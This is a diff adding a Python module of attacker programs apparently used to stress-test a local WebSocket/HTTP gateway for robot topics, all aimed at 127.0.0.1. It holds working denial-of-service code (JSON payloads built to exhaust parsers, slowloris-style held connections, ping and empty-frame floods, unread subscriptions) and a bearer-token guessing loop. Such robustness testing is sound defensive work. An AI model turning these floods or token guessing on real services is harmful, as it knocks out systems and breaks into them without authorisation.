@@ -1,0 +1,204 @@
+"""What clients of a gateway do to it: programs of attackers that need no session.
+
+Each is called with the seconds that it lasts, and the ids of the processes of the nodes, one of
+which has a gateway; it returns how often it tried.
+"""
+
+from __future__ import annotations
+
+import itertools
+import socket
+import struct
+import time
+import urllib.request
+from collections.abc import Callable, Iterator, Sequence
+from contextlib import suppress
+from functools import partial
+
+import psutil
+
+__all__ = ["GATEWAY_PROGRAMS"]
+
+SIZE = 990_000
+"""As much as fits into a frame."""
+
+UPGRADE = (
+    b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
+    b"Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Version: 13\r\n\r\n"
+)
+POST = (
+    b"POST /topics/t?type=geometry_msgs/PoseArray HTTP/1.1\r\nHost: 127.0.0.1\r\n"
+    b"Content-Type: application/json\r\n"
+)
+TEXT, PING = 1, 9
+
+Attack = Callable[[int, float], int]
+
+
+def begun() -> None:
+    """Tell that the attack begins."""
+    print("begun", flush=True)  # noqa: T201 - a program
+
+
+def port_of(pids: Sequence[int]) -> int:
+    """Return the port of the gateway: that which says by HTTP that it is well."""
+    for pid in pids:
+        for each in psutil.Process(pid).net_connections(kind="tcp"):
+            if each.status != psutil.CONN_LISTEN:
+                continue
+            with suppress(OSError, ValueError):
+                url = f"http://127.0.0.1:{each.laddr.port}/healthz"
+                with urllib.request.urlopen(url, timeout=1.0) as answer:  # of this host
+                    if b"ok" in answer.read():
+                        return int(each.laddr.port)
+    raise RuntimeError("none of the processes has a gateway")
+
+
+def against_gateway(attack: Attack, seconds: float, pids: Sequence[int]) -> int:
+    """Run an attack against the port of the gateway."""
+    port = port_of(pids)
+    begun()
+    return attack(port, time.monotonic() + seconds)
+
+
+def frame(payload: bytes, opcode: int = TEXT, first: int = 0x80) -> bytes:
+    """Return a frame of a client, masked with zeros."""
+    size = len(payload)
+    if size < 126:
+        length = bytes([0x80 | size])
+    elif size < 1 << 16:
+        length = struct.pack(">BH", 0x80 | 126, size)
+    else:
+        length = struct.pack(">BQ", 0x80 | 127, size)
+    return bytes([first | opcode]) + length + bytes(4) + payload
+
+
+def websocket(port: int) -> socket.socket:
+    """Begin a WebSocket."""
+    made = socket.create_connection(("127.0.0.1", port), timeout=2.0)
+    made.sendall(UPGRADE)
+    made.recv(4096)
+    return made
+
+
+def bombs() -> Iterator[bytes]:
+    """Yield values in JSON that are made to cost, in one frame each."""
+    for values in itertools.cycle(
+        (
+            '{"poses":[' + "{}," * (SIZE // 3) + "{}]}",
+            '{"poses":[' + "{}," * 4_900 + "{}]}",
+            "[" * SIZE,
+            "[NaN," + "[]," * (SIZE // 3) + "[]]",
+            '{"header":' * 1_000 + "1" + "}" * 1_000,
+            '{"poses":' + "1" * SIZE + "}",
+            '{"' + "x" * SIZE + '":1}',
+            '{"header":{"frame_id":"' + "\\u0041" * (SIZE // 6) + '"}}',
+        )
+    ):
+        yield values.encode()
+
+
+def send_bombs(port: int, until: float) -> int:
+    """Send bombs over WebSockets and HTTP by turns, as soon as the one before is taken."""
+    tries = 0
+    for values in bombs():
+        if time.monotonic() > until:
+            return tries
+        tries += 1
+        with suppress(OSError):
+            if tries % 2:
+                op = b'{"op":"publish","topic":"/t","type":"geometry_msgs/PoseArray","msg":'
+                with websocket(port) as client:
+                    client.sendall(frame(op + values + b"}"))
+                    client.sendall(frame(b"", PING))
+                    client.recv(4096)
+            else:
+                with socket.create_connection(("127.0.0.1", port), timeout=2.0) as client:
+                    client.sendall(POST + b"Content-Length: %d\r\n\r\n" % len(values) + values)
+                    client.recv(4096)
+    return tries
+
+
+def send_tiny_parts(port: int, until: float) -> int:
+    """Send pings, empty frames, empty parts and chunks of one byte, as fast as they are taken."""
+    kinds = (
+        (UPGRADE, frame(b"", PING) * 10_000),
+        (UPGRADE, frame(b"") * 10_000),
+        (UPGRADE + frame(b"", TEXT, 0), frame(b"", 0, 0) * 10_000),
+        (POST + b"Transfer-Encoding: chunked\r\n\r\n", b"1\r\nx\r\n" * 10_000),
+    )
+    tries = 0
+    for beginning, data in itertools.cycle(kinds):
+        if time.monotonic() > until:
+            return tries
+        with suppress(OSError), socket.create_connection(("127.0.0.1", port), 0.3) as client:
+            client.sendall(beginning)
+            for _ in range(10):
+                client.sendall(data)
+                tries += 10_000
+    return tries
+
+
+def keep_waiting(port: int, until: float) -> int:
+    """Keep 500 connections that send a byte at a time, and open new ones for those that close."""
+    beginnings = itertools.cycle(
+        (
+            b"",
+            b"GET /topics HTTP/1.1\r\nX-Slow: ",
+            UPGRADE[:60],
+            POST + b"Content-Length: 9999\r\n\r\n",
+        )
+    )
+    kept: list[socket.socket] = []
+    tries = 0
+    while time.monotonic() < until:
+        while len(kept) < 500:
+            with suppress(OSError):
+                each = socket.create_connection(("127.0.0.1", port), timeout=0.5)
+                each.sendall(next(beginnings))
+                kept.append(each)
+                tries += 1
+        for each in list(kept):
+            try:
+                each.sendall(b"x")
+            except OSError:
+                kept.remove(each)
+        time.sleep(0.1)
+    return tries
+
+
+def read_nothing(port: int, until: float) -> int:
+    """Subscribe, ask for much, and read nothing of it, with 20 clients."""
+    asking = frame(b'{"op":"subscribe","topic":"/chatter"}')
+    asking += frame(b'{"op":"call_service","service":"/rosapi/topics_and_raw_types"}') * 200
+    clients = [websocket(port) for _ in range(20)]
+    tries = 0
+    while time.monotonic() < until:
+        for client in clients:
+            with suppress(OSError):
+                client.settimeout(0.01)
+                client.sendall(asking)
+                tries += 1
+    return tries
+
+
+def guess_tokens(port: int, until: float) -> int:
+    """Try tokens, as fast as they are judged."""
+    tries = 0
+    while time.monotonic() < until:
+        with suppress(OSError), socket.create_connection(("127.0.0.1", port), 2.0) as client:
+            for _ in range(100):
+                client.sendall(
+                    b"GET /topics HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer %d\r\n\r\n"
+                    % tries
+                )
+                if not client.recv(4096):
+                    break
+                tries += 1
+    return tries
+
+
+GATEWAY_PROGRAMS = {
+    attack.__name__: partial(against_gateway, attack)
+    for attack in (send_bombs, send_tiny_parts, keep_waiting, read_nothing, guess_tokens)
+}
